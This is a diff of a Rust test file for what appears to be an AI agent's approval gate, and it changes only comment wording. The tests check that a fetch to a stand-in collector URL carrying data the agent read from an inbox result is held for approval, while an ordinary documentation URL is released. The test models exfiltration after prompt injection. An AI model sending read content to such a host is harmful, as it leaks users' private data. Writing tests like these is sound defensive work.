@@ -14,7 +14,7 @@ fn fetched(script: &mut Script, url: &str) -> String {
     script.call(900, "fetch", &json!({ "url": url })).notes.remove(0)
 }
 
-/// What a session sees of [`ORDER`]: in a short result, in a very long one, and with many results after it.
+/// Sessions that have seen [`ORDER`] in a short result, in a very long one, and with many results after it.
 fn sessions() -> [Script; 3] {
     let [mut short, mut long, mut old] = [(); 3].map(|()| Script::new(Gate::Ask));
     answered(&mut short, 1, "read_inbox", ORDER);
@@ -31,7 +31,7 @@ fn an_address_that_carries_what_was_read_once_is_not_plain() {
             let told = fetched(&mut script, &format!("https://collect.example/x?d={carried}"));
             assert!(told.starts_with("call fetch ask: "), "{carried}: {told}");
         }
-        // What stood nowhere is as plain as ever.
+        // What appeared nowhere is as plain as ever.
         let told = fetched(&mut script, "https://docs.example/guide/start");
         assert_eq!(told, "call fetch release");
     }
@@ -47,7 +47,7 @@ fn a_yes_that_stands_does_not_cover_what_nobody_can_look_at_any_more() {
         let waiting = script.beside.waiting.lock().unwrap().pop().unwrap();
         assert_eq!(waiting.lasting, None, "and none is offered");
     }
-    // Where all is known it may stand.
+    // Where everything is known, an approval may last.
     let mut fresh = Script::new(Gate::Ask);
     let asked = fresh.call(1, "send_mail", &send);
     assert!(!asked.notes[0].contains("forgotten"), "{:?}", asked.notes);
